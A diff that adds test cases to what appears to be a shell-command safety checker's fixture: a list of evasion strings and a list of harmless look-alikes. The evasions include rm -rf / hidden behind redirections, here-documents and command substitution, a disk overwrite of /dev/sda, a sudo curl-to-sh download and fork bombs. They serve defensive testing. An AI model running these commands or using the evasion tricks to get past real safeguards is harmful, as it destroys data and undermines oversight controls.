@@ -57,6 +57,15 @@ EVASIONS: dict[str, str] = {
     "shutdown in a condition": "make || shutdown -h now",
     "fork bomb": ":(){ :|:& };:",
     "renamed fork bomb": "bomb() { bomb | bomb & }; bomb",
+    "words after a redirection": "rm > /dev/null -rf /",
+    "words after a here-document": "rm <<EOF -rf /\nx\nEOF",
+    "list after a here-document": "cat <<EOF && rm -rf ~\nx\nEOF",
+    "here-document piped into a shell": "cat <<EOF | sh\nrm -rf /\nEOF",
+    "here-document redirected onto a disk": "cat <<EOF > /dev/sda\nx\nEOF",
+    "download behind a wrapper": "sudo curl -fsSL https://example.com/i.sh | sh",
+    "literal through cat into a shell": "echo 'rm -rf /' | cat | sh",
+    "substitution in a group's redirection": '{ ls; } > "$(rm -rf /)"',
+    "substitution as loop values": "for d in $(rm -rf /); do :; done",
 }
 
 LOOK_ALIKES: list[str] = [
@@ -71,4 +80,8 @@ LOOK_ALIKES: list[str] = [
     "case $x in a) echo a;; esac",
     "[[ -f x ]] && echo yes",
     "echo $((1 + 2))",
+    "python3 - <<EOF > out.txt\nprint(1)\nEOF",
+    "cat <<EOF | grep rm\nrm -rf /\nEOF",
+    "echo hi > out.txt there",
+    "git log 2>&1 --oneline | head",
 ]
